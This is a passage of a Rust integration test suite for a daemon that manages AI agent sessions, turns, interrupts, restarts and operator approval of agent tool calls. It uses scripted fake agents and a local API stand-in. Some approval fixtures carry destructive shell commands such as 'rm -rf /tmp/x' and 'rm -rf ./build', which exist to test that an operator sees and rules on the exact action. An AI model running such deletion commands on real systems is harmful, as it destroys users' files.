//! Sessions, turns and approvals through the real daemon (issue 3, "Tests"):
//! the scripted fake agents of tests/fixtures for both transports, every
//! event sequence, interrupts, queueing, a restart with resume, misbehaving
//! agents, an agent that tries to answer its own approval, answers by the
//! operator, a rule and a timeout, and the ACP library's example agent.

mod util;

use serde_json::{Value, json};
use std::path::PathBuf;
use util::{Daemon, Opts, TestDir, fixture, run_cli};

#[derive(Clone, Copy, PartialEq, Debug)]
enum T {
    Acp,
    Sj,
}

impl T {
    fn name(self) -> &'static str {
        match self {
            T::Acp => "acp",
            T::Sj => "stream-json",
        }
    }
    fn script(self) -> String {
        fixture(match self {
            T::Acp => "fake_acp_agent.py",
            T::Sj => "fake_stream_json_agent.py",
        })
    }
    /// A permission step of this transport's fake.
    fn permission(self, id: &str, kind: &str, input: Value) -> Value {
        match self {
            T::Acp => {
                json!({"permission": {"id": id, "title": format!("{kind} it"), "kind": kind, "input": input}})
            }
            T::Sj => {
                json!({"permission": {"id": id, "name": if kind == "read" { "Read" } else { "Bash" }, "input": input, "description": "d"}})
            }
        }
    }
}

/// A `[[seat]]` running a fake agent with `script`.
fn seat(harness: &str, t: T, script: &Value, env: &[(&str, &str)]) -> String {
    let mut env_s = format!("FAKE_SCRIPT = '{}'", script);
    for (k, v) in env {
        env_s.push_str(&format!(", {k} = '{v}'"));
    }
    format!(
        "[[seat]]\nharness = \"{harness}\"\ncommand = \"python3\"\nargs = [\"{}\"]\ntransport = \"{}\"\nprovider = \"test\"\nfamily = \"local\"\nenv = {{ {env_s} }}\n\n",
        t.script(),
        t.name()
    )
}

struct Rig {
    d: Daemon,
    c: util::Client,
    wt: PathBuf,
    /// Events read while waiting for another, oldest first.
    seen: Vec<Value>,
}

impl Rig {
    fn start(dir: &TestDir, config: String) -> Rig {
        let wt = dir.join("wt");
        std::fs::create_dir_all(&wt).unwrap();
        let d = Daemon::start_with(
            &dir.path,
            Opts {
                config: Some(config),
                ..Opts::default()
            },
        );
        let mut c = d.connect();
        c.call("events.subscribe", json!({}));
        c.call("sessions.subscribe", json!({}));
        Rig {
            d,
            c,
            wt: wt.canonicalize().unwrap(),
            seen: Vec::new(),
        }
    }

    fn spawn(&mut self, harness: &str, prompt: Option<&str>) -> String {
        let mut p = json!({"harness": harness, "cwd": self.wt.display().to_string()});
        if let Some(t) = prompt {
            p["prompt"] = json!(t);
        }
        let r = self.c.call("sessions.spawn", p);
        r["session_id"].as_str().unwrap().to_string()
    }

    /// Waits for the next event of `sid` of `kind`; returns its params.
    fn event(&mut self, sid: &str, kind: &str) -> Value {
        self.event_after(sid, kind, 0)
    }

    /// As `event`, for an event after seq `after` of the stream.
    fn event_after(&mut self, sid: &str, kind: &str, after: i64) -> Value {
        let hit = |p: &Value| {
            p["stream"] == sid && p["kind"] == kind && p["seq"].as_i64().unwrap_or(0) > after
        };
        if let Some(i) = self.seen.iter().position(hit) {
            return self.seen.remove(i);
        }
        loop {
            let n = self.c.next_note("event");
            if hit(&n["params"]) {
                return n["params"].clone();
            }
            self.seen.push(n["params"].clone());
        }
    }

    /// Every event of `sid`'s stream, in order: (kind, data).
    fn stream(&mut self, sid: &str) -> Vec<(String, Value)> {
        let r = self
            .c
            .call("events.list", json!({"stream": sid, "limit": 1000}));
        r["events"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| (e["kind"].as_str().unwrap().to_string(), e["data"].clone()))
            .collect()
    }

    fn kinds(&mut self, sid: &str) -> Vec<String> {
        self.stream(sid).into_iter().map(|(k, _)| k).collect()
    }

    /// Waits for a session.event of `sid` whose session has `state`.
    fn state(&mut self, sid: &str, state: &str) -> Value {
        // After a restart a session is back once the daemon has read the
        // ledger: until then it is unknown, and its `added` event follows.
        let now = self.c.request("sessions.get", json!({"session_id": sid}));
        if now["result"]["state"] == state {
            return now["result"].clone();
        }
        loop {
            let n = self.c.next_note("session.event");
            let s = &n["params"]["session"];
            if s["id"] == sid && s["state"] == state {
                return s.clone();
            }
        }
    }

    fn entries(&mut self, sid: &str) -> Vec<Value> {
        self.c
            .call("sessions.transcriptView", json!({"session_id": sid}))["entries"]
            .as_array()
            .unwrap()
            .clone()
    }
}

fn every_event_sequence(t: T) {
    let dir = TestDir::new(&format!("seq{}", t.name()));
    let script = json!([[{"think": "hmm"}, {"text": "hi "}, {"text": "there"}, {"tool": {"id": "t1", "name": "Read", "title": "Read a", "kind": "read", "input": {"path": "/a"}, "output": {"ok": 1}}}]]);
    let mut r = Rig::start(&dir, seat("fake", t, &script, &[]));
    let sid = r.spawn("fake", Some("hello"));
    assert!(sid.starts_with("s-") && sid.len() == 14, "{sid}");
    let added = r.c.next_note("session.event");
    assert_eq!(added["params"]["type"], "added");
    assert_eq!(added["params"]["session"]["id"], json!(sid));
    let start = r.event(&sid, "session.start");
    assert_eq!(start["data"]["transport"], t.name());
    assert_eq!(start["data"]["flags"]["interrupt"], true);
    let ts = r.event(&sid, "turn.start");
    assert_eq!(ts["data"], json!({"turn": 1, "mode": "prompt", "chars": 5}));
    assert_eq!(
        r.event(&sid, "turn.end")["data"],
        json!({"reason": "completed"})
    );
    let s = r.state(&sid, "idle");
    assert_eq!(
        (
            s["turn"].clone(),
            s["turn_active"].clone(),
            s["end_reason"].clone(),
            s["pending_approvals"].clone()
        ),
        (json!(1), json!(false), json!("completed"), json!(0))
    );
    assert_eq!(s["can_prompt"], true);
    assert!(s["agent_session_id"].is_string(), "{s}");
    let list = r.c.call("sessions.list", json!({}));
    assert_eq!(list[0]["id"], json!(sid));
    assert_eq!(list[0]["cwd"], json!(r.wt.display().to_string()));

    let entries = r.entries(&sid);
    let kinds: Vec<&str> = entries
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        ["user", "thinking", "text", "tool", "turn_end"],
        "{entries:?}"
    );
    assert_eq!(entries[2]["text"], "hi there");
    assert!(
        entries[3].get("toolInput").is_none() && entries[3]["toolId"] == "t1",
        "{}",
        entries[3]
    );
    let detail = r.c.call(
        "sessions.toolDetail",
        json!({"session_id": sid, "tool_id": "t1"}),
    );
    assert_eq!(
        serde_json::from_str::<Value>(detail["toolInput"].as_str().unwrap()).unwrap()["path"],
        "/a"
    );
    assert!(detail["result"].is_string(), "{detail}");

    // A transcript subscription: the first answer brings the client up to
    // date, then a delta follows each change.
    let first = r.c.call(
        "transcript.subscribe",
        json!({"sub_id": "x", "session_id": sid, "have_entries": 0}),
    );
    assert_eq!(
        (
            first["from_index"].clone(),
            first["entries"].as_array().unwrap().len()
        ),
        (json!(0), 5)
    );
    let again = r.c.call(
        "transcript.subscribe",
        json!({"sub_id": "x", "session_id": sid, "have_entries": 5}),
    );
    assert_eq!(
        again["from_index"],
        json!(4),
        "the last cached entry ends a turn: {again}"
    );
    let q =
        r.c.call("sessions.input", json!({"session_id": sid, "text": "more"}));
    assert_eq!(q["queued"], false);
    let ts = r.event(&sid, "turn.start");
    assert_eq!(ts["data"]["turn"], 2);
    r.event(&sid, "turn.end");
    let mut got: Vec<Value> = Vec::new();
    while !got
        .iter()
        .any(|e| e["kind"] == "turn_end" && e["id"] == "e7")
    {
        let n = r.c.next_note("transcript.delta");
        assert_eq!(n["params"]["sub_id"], "x");
        got.extend(n["params"]["entries"].as_array().unwrap().iter().cloned());
    }
    assert_eq!(
        r.c.call("transcript.unsubscribe", json!({"sub_id": "x"})),
        Value::Null
    );
    let rn = r.c.call(
        "session.rename",
        json!({"session_id": sid, "name": "  tidy  "}),
    );
    assert_eq!(rn, json!({"name": "tidy", "applied": true}));

    r.c.call("sessions.kill", json!({"session_id": sid}));
    let end = r.event(&sid, "session.end");
    assert!(
        end["data"].get("code").is_some() && end["data"].get("signal").is_some(),
        "{end}"
    );
    let s = r.state(&sid, "ended");
    assert_eq!(s["name"], "tidy");
    assert_eq!(
        r.kinds(&sid),
        [
            "session.start",
            "turn.start",
            "turn.end",
            "turn.start",
            "turn.end",
            "session.end"
        ]
    );
    assert_eq!(
        r.c.error_code("sessions.input", json!({"session_id": sid, "text": "x"})),
        "session-ended"
    );
    assert_eq!(
        r.c.error_code("sessions.get", json!({"session_id": "s-000000000000"})),
        "session-not-found"
    );
    assert_eq!(
        r.c.error_code("sessions.spawn", json!({"harness": "nope", "cwd": "/"})),
        "seat-not-found"
    );
    assert_eq!(
        r.c.error_code(
            "sessions.spawn",
            json!({"harness": "fake", "cwd": "relative"})
        ),
        "invalid-params"
    );
    r.d.stop();
}

#[test]
fn acp_every_event_sequence() {
    every_event_sequence(T::Acp);
}

#[test]
fn stream_json_every_event_sequence() {
    every_event_sequence(T::Sj);
}

fn approvals_by_operator(t: T) {
    let dir = TestDir::new(&format!("appr{}", t.name()));
    let script = json!([
        [t.permission("c1", "execute", json!({"command": "rm -rf /tmp/x"}))],
        [t.permission("c2", "execute", json!({"command": "ls"}))]
    ]);
    let mut r = Rig::start(&dir, seat("fake", t, &script, &[]));
    let sid = r.spawn("fake", Some("go"));
    let req = r.event(&sid, "approval.request");
    let id = format!("{sid}-a1");
    assert_eq!(
        req["data"],
        json!({"requestId": id, "action": "execute", "risk": "high"})
    );
    let s = r.state(&sid, "awaiting-approval");
    assert_eq!(s["pending_approvals"], 1);
    assert_eq!(s["interaction"]["request_id"], json!(id));
    let list = r.c.call("approvals.list", json!({}));
    assert_eq!(list["approvals"][0]["request_id"], json!(id));
    let digest = list["approvals"][0]["digest"].as_str().unwrap().to_string();
    assert_eq!(digest.len(), 64);
    assert_eq!(
        r.c.error_code(
            "approvals.answer",
            json!({"request_id": id, "decision": "allow", "digest": "00"})
        ),
        "action-mismatch"
    );
    let a = r.c.call(
        "approvals.answer",
        json!({"request_id": id, "decision": "allow", "digest": digest}),
    );
    assert_eq!(
        (
            a["decision"].clone(),
            a["delivered"].clone(),
            a["surface"].clone()
        ),
        (json!("allow"), json!(true), json!("socket"))
    );
    assert!(
        a["answered_by"].as_str().unwrap().starts_with("operator"),
        "{a}"
    );
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"],
        json!({"requestId": id, "decision": "allow", "delivered": true})
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    // Used once.
    assert_eq!(
        r.c.error_code(
            "approvals.answer",
            json!({"request_id": id, "decision": "deny"})
        ),
        "not-pending"
    );

    r.c.call(
        "sessions.input",
        json!({"session_id": sid, "text": "again"}),
    );
    let id2 = format!("{sid}-a2");
    assert_eq!(
        r.event(&sid, "approval.request")["data"]["requestId"],
        json!(id2)
    );
    let a = r.c.call(
        "approvals.answer",
        json!({"request_id": id2, "decision": "deny", "reason": "not now"}),
    );
    assert_eq!(a["reason"], "not now");
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"]["decision"],
        "deny"
    );
    r.event(&sid, "turn.end");
    let got = r.c.call("approvals.get", json!({"request_id": id2}));
    assert_eq!(got["state"], "resolved");
    assert_eq!(
        r.c.call("approvals.list", json!({"all": true}))["approvals"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    r.d.stop();
}

#[test]
fn acp_approvals_answered_by_the_operator() {
    approvals_by_operator(T::Acp);
}

#[test]
fn stream_json_approvals_answered_by_the_operator() {
    approvals_by_operator(T::Sj);
}

#[test]
fn interrupt_while_streaming_and_while_a_permission_waits() {
    for t in [T::Acp, T::Sj] {
        let dir = TestDir::new(&format!("intr{}", t.name()));
        let script = json!([[{"text": "a"}, {"stall": 30}], [t.permission("c1", "edit", json!({"path": "/x"}))], []]);
        let mut r = Rig::start(&dir, seat("fake", t, &script, &[]));
        let sid = r.spawn("fake", Some("one"));
        r.event(&sid, "turn.start");
        r.state(&sid, "running");
        assert_eq!(
            r.c.call("sessions.interrupt", json!({"session_id": sid}))["interrupted"],
            true
        );
        assert_eq!(
            r.event(&sid, "turn.end")["data"]["reason"],
            "interrupted",
            "{t:?}"
        );
        r.state(&sid, "idle");

        r.c.call("sessions.input", json!({"session_id": sid, "text": "two"}));
        r.event(&sid, "approval.request");
        r.c.call("sessions.interrupt", json!({"session_id": sid}));
        assert_eq!(
            r.event(&sid, "approval.resolved")["data"],
            json!({"requestId": format!("{sid}-a1"), "decision": "cancel", "delivered": true})
        );
        assert_eq!(
            r.event(&sid, "turn.end")["data"]["reason"],
            "interrupted",
            "{t:?}"
        );
        let e = r.entries(&sid);
        assert_eq!(e.last().unwrap()["interrupted"], true);
        // The session goes on.
        r.c.call(
            "sessions.input",
            json!({"session_id": sid, "text": "three"}),
        );
        assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
        r.d.stop();
    }
}

#[test]
fn prompts_queue_behind_the_running_turn_up_to_32() {
    let dir = TestDir::new("queue");
    let script = json!([[{"stall": 30}]]);
    let mut r = Rig::start(
        &dir,
        format!(
            "{}{}",
            seat("acp", T::Acp, &script, &[]),
            seat("sj", T::Sj, &script, &[])
        ),
    );
    let sid = r.spawn("acp", Some("long"));
    r.event(&sid, "turn.start");
    r.state(&sid, "running");
    let q =
        r.c.call("sessions.input", json!({"session_id": sid, "text": "next"}));
    assert_eq!(q, json!({"queued": true, "queue_length": 1}));
    for n in 2..=32 {
        assert_eq!(
            r.c.call(
                "sessions.input",
                json!({"session_id": sid, "text": format!("p{n}")})
            )["queue_length"],
            n
        );
    }
    assert_eq!(
        r.c.error_code(
            "sessions.input",
            json!({"session_id": sid, "text": "too many"})
        ),
        "queue-full"
    );
    assert_eq!(
        r.c.call("sessions.get", json!({"session_id": sid}))["queued"],
        32
    );
    r.c.call("sessions.interrupt", json!({"session_id": sid}));
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "interrupted");
    let next = r.event(&sid, "turn.start");
    assert_eq!(
        next["data"],
        json!({"turn": 2, "mode": "prompt", "chars": 4})
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    r.c.call("sessions.kill", json!({"session_id": sid}));

    // stream-json: the daemon holds the prompt too, and writes it after the
    // interrupted turn's result, as a plain prompt.
    let sid = r.spawn("sj", Some("long"));
    r.event(&sid, "turn.start");
    assert_eq!(
        r.c.call(
            "sessions.input",
            json!({"session_id": sid, "text": "later"})
        )["queued"],
        true
    );
    r.c.call("sessions.interrupt", json!({"session_id": sid}));
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "interrupted");
    assert_eq!(r.event(&sid, "turn.start")["data"]["mode"], "prompt");
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    r.d.stop();
}

/// Issue 10 item 9: Claude Code merges lines written during a turn into one
/// turn with one result. The fake does the same (and, with
/// FAKE_QUEUE=separate, answers each line); either way every prompt given
/// during a turn gets its own turn, the session comes back idle, and an
/// interrupt in that state ends the running turn and lets the rest run.
#[test]
fn stream_json_prompts_queued_during_a_turn_each_get_a_turn() {
    for mode in ["merge", "separate"] {
        let dir = TestDir::new(&format!("sjq{mode}"));
        let script = json!([[{"text": "one"}, {"stall": 30}]]);
        let mut r = Rig::start(&dir, seat("sj", T::Sj, &script, &[("FAKE_QUEUE", mode)]));
        let sid = r.spawn("sj", Some("long"));
        r.event(&sid, "turn.start");
        for (n, text) in ["two", "three"].iter().enumerate() {
            let q =
                r.c.call("sessions.input", json!({"session_id": sid, "text": text}));
            assert_eq!(q, json!({"queued": true, "queue_length": n + 1}), "{mode}");
        }
        let got = r.c.call("sessions.get", json!({"session_id": sid}));
        assert_eq!(
            (got["state"].clone(), got["queued"].clone()),
            (json!("running"), json!(2))
        );
        assert_eq!(
            r.c.call("sessions.interrupt", json!({"session_id": sid}))["interrupted"],
            true
        );
        assert_eq!(
            r.event(&sid, "turn.end")["data"]["reason"],
            "interrupted",
            "{mode}"
        );
        for (turn, chars) in [(2, 3), (3, 5)] {
            assert_eq!(
                r.event(&sid, "turn.start")["data"],
                json!({"turn": turn, "mode": "prompt", "chars": chars}),
                "{mode}"
            );
            assert_eq!(
                r.event(&sid, "turn.end")["data"]["reason"],
                "completed",
                "{mode}"
            );
        }
        let s = r.state(&sid, "idle");
        assert_eq!(
            (
                s["turn"].clone(),
                s["can_prompt"].clone(),
                s["queued"].clone()
            ),
            (json!(3), json!(true), json!(0)),
            "{mode}"
        );
        let texts: Vec<Value> = r
            .entries(&sid)
            .into_iter()
            .filter(|e| e["kind"] == "text")
            .map(|e| e["text"].clone())
            .collect();
        assert!(texts.contains(&json!("echo: two")), "{mode}: {texts:?}");
        assert!(texts.contains(&json!("echo: three")), "{mode}: {texts:?}");
        r.d.stop();
    }
}

/// The loopback Anthropic API stand-in of tests/fixtures, killed on drop.
struct StandIn {
    child: std::process::Child,
    port: u16,
}

impl StandIn {
    fn start(replies: &[&str]) -> StandIn {
        StandIn::start_args(replies.iter().map(|r| r.to_string()).collect())
    }

    /// With the stand-in's `--script` of `replies` (reply objects: a
    /// tool_use of any tool), written into `dir`.
    fn start_script(dir: &TestDir, replies: Value) -> StandIn {
        let script = dir.join("standin-script.json");
        std::fs::write(&script, json!({"replies": replies}).to_string()).unwrap();
        StandIn::start_args(vec!["--script".into(), script.display().to_string()])
    }

    fn start_args(args: Vec<String>) -> StandIn {
        use std::io::BufRead;
        let mut child = std::process::Command::new("python3")
            .arg(fixture("anthropic_standin.py"))
            .arg("--die-with-stdin")
            .args(args)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("start the stand-in");
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().expect("stdout"))
            .read_line(&mut line)
            .expect("the stand-in's port");
        let port = line.trim().parse().expect("a port on the first line");
        StandIn { child, port }
    }
}

impl Drop for StandIn {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The real Claude Code CLI, installed by tests/fixtures/install-claude-code.sh
/// (`.ci/run` does); missing, the rule of `util::need` applies.
fn claude_code() -> Option<PathBuf> {
    let target = std::env::var_os("CARGO_TARGET_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(".."));
    let claude = target.join("claude-code/node_modules/.bin/claude");
    util::need::have(
        if claude.exists() {
            Ok(claude)
        } else {
            Err(format!("{} does not exist", claude.display()))
        },
        "Claude Code with tests/fixtures/install-claude-code.sh",
    )
}

/// A stream-json seat `cc` running the real CLI against `api`, with a
/// private HOME and no traffic but to the stand-in.
fn claude_seat(claude: &std::path::Path, api: &StandIn, home: &std::path::Path) -> String {
    std::fs::create_dir_all(home).unwrap();
    format!(
        "[[seat]]\nharness = \"cc\"\ncommand = \"{}\"\ntransport = \"stream-json\"\nprovider = \"anthropic\"\nfamily = \"anthropic\"\n\
         env = {{ ANTHROPIC_BASE_URL = 'http://127.0.0.1:{}', ANTHROPIC_API_KEY = 'dummy', HOME = '{}', \
         CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC = '1', DISABLE_AUTOUPDATER = '1', DISABLE_TELEMETRY = '1', \
         DISABLE_ERROR_REPORTING = '1' }}\n",
        claude.display(),
        api.port,
        home.display()
    )
}

/// Item 9 with the real CLI: two prompts given during a slow turn each get
/// their own turn and answer; then an interrupt with a prompt waiting ends
/// the turn and the waiting prompt still runs.
#[test]
fn real_claude_code_runs_each_queued_prompt() {
    let Some(claude) = claude_code() else {
        return;
    };
    let dir = TestDir::new("ccqueue");
    let api = StandIn::start(&["slow:3"]);
    let mut r = Rig::start(&dir, claude_seat(&claude, &api, &dir.join("home")));
    let sid = r.spawn("cc", Some("first"));
    r.event(&sid, "turn.start");
    for text in ["second", "third"] {
        assert_eq!(
            r.c.call("sessions.input", json!({"session_id": sid, "text": text}))["queued"],
            true
        );
    }
    for turn in 1..=3 {
        let end = r.event(&sid, "turn.end");
        assert_eq!(end["data"]["reason"], "completed", "turn {turn}: {end}");
    }
    let s = r.state(&sid, "idle");
    assert_eq!(
        (s["turn"].clone(), s["can_prompt"].clone()),
        (json!(3), json!(true))
    );
    let texts: Vec<Value> = r
        .entries(&sid)
        .into_iter()
        .filter(|e| e["kind"] == "text")
        .map(|e| e["text"].clone())
        .collect();
    assert!(texts.contains(&json!("echo: second")), "{texts:?}");
    assert!(texts.contains(&json!("echo: third")), "{texts:?}");

    // The turn.start events of turns 2 and 3 were read past above.
    r.seen.clear();
    r.c.call(
        "sessions.input",
        json!({"session_id": sid, "text": "SLOW one"}),
    );
    assert_eq!(r.event(&sid, "turn.start")["data"]["turn"], 4);
    r.c.call(
        "sessions.input",
        json!({"session_id": sid, "text": "after"}),
    );
    assert_eq!(
        r.c.call("sessions.interrupt", json!({"session_id": sid}))["interrupted"],
        true
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "interrupted");
    assert_eq!(r.event(&sid, "turn.start")["data"]["turn"], 5);
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    r.state(&sid, "idle");
    let last = r.entries(&sid);
    let texts: Vec<&Value> = last.iter().filter(|e| e["kind"] == "text").collect();
    // The CLI folds the interrupted prompt into the next request; the
    // answer is to "after" (the stand-in's echo), not a second slow one.
    let answer = texts.last().and_then(|e| e["text"].as_str()).unwrap_or("");
    assert!(
        answer.starts_with("echo: ") && answer.ends_with("after"),
        "{answer}"
    );
    r.d.stop();
}

/// Item 13 with the real CLI: two 429s, then an answer. The session is
/// rate limited while the CLI waits to retry and working again after.
#[test]
fn real_claude_code_rate_limit_shows_and_clears() {
    let Some(claude) = claude_code() else {
        return;
    };
    let dir = TestDir::new("ccratelim");
    let api = StandIn::start(&["429x2", "text:after the wait"]);
    let mut r = Rig::start(&dir, claude_seat(&claude, &api, &dir.join("home")));
    let sid = r.spawn("cc", Some("go"));
    let mut attempts = Vec::new();
    let cleared = loop {
        let n = r.c.next_note("session.event");
        let s = n["params"]["session"].clone();
        if s["id"] != json!(sid) {
            continue;
        }
        if s["status_label"] == "rate-limited" {
            attempts.push(s["retry"]["attempt"].clone());
        } else if !attempts.is_empty() && s["retry"].is_null() {
            break s;
        }
    };
    assert_eq!(attempts.first(), Some(&json!(1)), "{attempts:?}");
    assert_ne!(cleared["status_label"], "rate-limited");
    let s = r.state(&sid, "idle");
    assert_eq!(s["end_reason"], "completed");
    r.d.stop();
}

#[test]
fn sessions_survive_a_daemon_restart() {
    let dir = TestDir::new("restart");
    let acp_script = json!([[{"text": "one"}], [json!({"permission": {"id": "c1", "title": "Edit", "kind": "edit", "input": {}}})]]);
    let config = format!(
        "{}{}",
        seat("acp", T::Acp, &acp_script, &[("FAKE_LOAD", "1")]),
        seat("sj", T::Sj, &json!([]), &[])
    );
    let mut r = Rig::start(&dir, config.clone());
    let a = r.spawn("acp", Some("first"));
    r.event(&a, "turn.end");
    let acp_agent_sid = r.state(&a, "idle")["agent_session_id"].clone();
    let s = r.spawn("sj", Some("first"));
    r.event(&s, "turn.end");
    let sj_agent_sid = r.state(&s, "idle")["agent_session_id"].clone();
    // A permission waits when the daemon stops.
    r.c.call("sessions.input", json!({"session_id": a, "text": "second"}));
    r.event(&a, "approval.request");
    r.d.stop();

    let mut r = Rig::start(&dir, config);
    let back = r.state(&a, "idle");
    assert_eq!(back["agent_session_id"], acp_agent_sid);
    assert_eq!(back["turn"], 2);
    let stream = r.stream(&a);
    let tail: Vec<&(String, Value)> = stream.iter().rev().take(2).collect();
    assert!(
        tail.iter().any(|(k, d)| k == "approval.resolved"
            && d["delivered"] == false
            && d["decision"] == "cancel"),
        "{stream:?}"
    );
    assert!(
        tail.iter()
            .any(|(k, d)| k == "turn.end" && d["reason"] == "interrupted"),
        "{stream:?}"
    );
    let last = stream.len() as i64;
    r.c.call("sessions.input", json!({"session_id": a, "text": "third"}));
    assert_eq!(r.event_after(&a, "turn.start", last)["data"]["turn"], 3);
    assert_eq!(
        r.event_after(&a, "turn.end", last)["data"]["reason"],
        "completed"
    );

    r.state(&s, "idle");
    r.c.call("sessions.input", json!({"session_id": s, "text": "again"}));
    assert_eq!(r.event(&s, "turn.end")["data"]["reason"], "completed");
    // The CLI was started with --resume: the same agent session.
    assert_eq!(
        r.c.call("sessions.get", json!({"session_id": s}))["agent_session_id"],
        sj_agent_sid
    );
    assert!(!r.kinds(&s).contains(&"session.end".to_string()));
    r.d.stop();
}

/// The transcript tables as ledger schema 10 had them (migrations 3 and 5
/// of src/ledger/schema.rs): WITHOUT ROWID.
const SCHEMA_10_TRANSCRIPT: &str = "CREATE TABLE transcript (
        session TEXT NOT NULL, idx INTEGER NOT NULL, kind TEXT NOT NULL, ts TEXT NOT NULL,
        text TEXT, tool_id TEXT, tool_name TEXT, tool_kind TEXT, tool_status TEXT,
        tool_input TEXT, tool_result TEXT, PRIMARY KEY (session, idx)
    ) WITHOUT ROWID;
    CREATE TABLE transcript_parts (
        session TEXT NOT NULL, idx INTEGER NOT NULL, part INTEGER NOT NULL CHECK (part >= 1),
        text TEXT NOT NULL, PRIMARY KEY (session, idx, part)
    ) WITHOUT ROWID;";

/// Issue 11: a ledger of schema 10, whose transcripts are in WITHOUT ROWID
/// tables, is migrated at start (migration 11) and every entry, its text
/// parts and a tool's input and result read back as before.
#[test]
fn a_schema_10_ledger_keeps_its_transcripts_when_migrated() {
    let dir = TestDir::new("schema10");
    let script = json!([[{"think": "hmm"}, {"text": "hi "}, {"text": "there"}, {"tool": {"id": "t1", "title": "Read a", "kind": "read", "input": {"path": "/a"}, "output": {"ok": 1}}}, {"text": "done"}]]);
    let config = seat("acp", T::Acp, &script, &[("FAKE_LOAD", "1")]);
    let mut r = Rig::start(&dir, config.clone());
    let sid = r.spawn("acp", Some("hello"));
    r.event(&sid, "turn.end");
    r.state(&sid, "idle");
    let detail = |r: &mut Rig| {
        r.c.call(
            "sessions.toolDetail",
            json!({"session_id": sid, "tool_id": "t1"}),
        )
    };
    let (entries, tool) = (r.entries(&sid), detail(&mut r));
    assert_eq!(entries[2]["text"], "hi there", "{entries:?}");
    r.d.stop();

    // Back to schema 10: the same rows in the old tables, each text entry
    // split into its row and parts as a daemon of that schema wrote a text
    // that grew over several rounds.
    let ledger = dir.join("state/ledger.sqlite3");
    let db = rusqlite::Connection::open(&ledger).unwrap();
    db.execute_batch(&format!(
        "BEGIN;
         ALTER TABLE transcript RENAME TO t11;
         ALTER TABLE transcript_parts RENAME TO p11;
         {SCHEMA_10_TRANSCRIPT}
         INSERT INTO transcript SELECT * FROM t11;
         INSERT INTO transcript_parts SELECT * FROM p11;
         DROP TABLE t11;
         DROP TABLE p11;
         CREATE TEMP TABLE whole AS SELECT session, idx FROM transcript t
             WHERE kind IN ('text', 'thinking') AND length(text) > 1 AND NOT EXISTS
             (SELECT 1 FROM transcript_parts p WHERE p.session = t.session AND p.idx = t.idx);
         INSERT INTO transcript_parts (session, idx, part, text)
             SELECT session, idx, 1, substr(text, 2) FROM transcript
             WHERE (session, idx) IN (SELECT session, idx FROM whole);
         UPDATE transcript SET text = substr(text, 1, 1)
             WHERE (session, idx) IN (SELECT session, idx FROM whole);
         PRAGMA user_version = 10;
         COMMIT;"
    ))
    .unwrap();
    // The thinking entry and both text entries have parts.
    let parted: i64 = db
        .query_row(
            "SELECT count(*) FROM (SELECT DISTINCT session, idx FROM transcript_parts)",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(parted, 3);
    drop(db);

    let mut r = Rig::start(&dir, config);
    r.d.wait_log("migrated from schema 10 to");
    r.state(&sid, "idle");
    // Entries the restart adds (a reopened agent's note) come after these.
    let again = r.entries(&sid);
    assert_eq!(again.get(..entries.len()), Some(&entries[..]));
    assert_eq!(detail(&mut r), tool);
    r.d.stop();
    let db = rusqlite::Connection::open(&ledger).unwrap();
    let old: i64 = db
        .query_row(
            "SELECT count(*) FROM sqlite_master WHERE name IN ('transcript', 'transcript_parts') \
             AND sql LIKE '%WITHOUT ROWID%'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(old, 0);
}

/// Issue 10 items 11 and 12: the operator sees the exact command under the
/// model-written title (socket and CLI), and the inbox's history, with it,
/// survives a restart: list {all: true} and get of earlier ids, the request
/// pending at the stop resolved by the daemon; an id older than the history
/// kept in memory is read from the ledger.
#[test]
fn approvals_show_the_exact_action_and_outlive_a_restart() {
    let dir = TestDir::new("apphist");
    let ask = |cmd: &str, what: &str| {
        json!({"permission": {"id": "c1", "name": "Bash",
            "input": {"command": cmd, "description": what}, "description": what}})
    };
    let script = json!([
        [ask("touch mock_created.txt", "create a file")],
        [ask("rm -rf ./build\necho done", "tidy up")]
    ]);
    let config = seat("sj", T::Sj, &script, &[]);
    let mut r = Rig::start(&dir, config.clone());
    let sid = r.spawn("sj", Some("go"));
    r.event(&sid, "approval.request");
    let (a1, a2) = (format!("{sid}-a1"), format!("{sid}-a2"));
    let listed = r.c.call("approvals.list", json!({}))["approvals"][0].clone();
    assert_eq!(listed["tool"], "Bash: create a file");
    assert_eq!(
        listed["target"],
        json!({"kind": "command", "text": "touch mock_created.txt", "truncated": false})
    );
    let sock = r.d.socket.display().to_string();
    let cli = |args: &[&str]| {
        let mut all = vec!["--socket", sock.as_str()];
        all.extend_from_slice(args);
        let (code, out, err) = run_cli(&all);
        assert_eq!(code, 0, "{args:?}: {err}");
        out
    };
    let out = cli(&["approvals"]);
    assert!(out.contains("    command: touch mock_created.txt"), "{out}");
    r.c.call(
        "approvals.answer",
        json!({"request_id": a1, "decision": "allow"}),
    );
    r.event(&sid, "turn.end");
    r.c.call("sessions.input", json!({"session_id": sid, "text": "more"}));
    r.event(&sid, "approval.request");
    let out = cli(&["approvals"]);
    assert!(
        out.contains("    command: rm -rf ./build\n      echo done"),
        "{out}"
    );
    r.d.stop();

    let mut r = Rig::start(&dir, config);
    r.state(&sid, "idle");
    assert_eq!(
        r.c.call("approvals.list", json!({}))["approvals"],
        json!([])
    );
    let all = r.c.call("approvals.list", json!({"all": true}))["approvals"].clone();
    let ids: Vec<&Value> = all
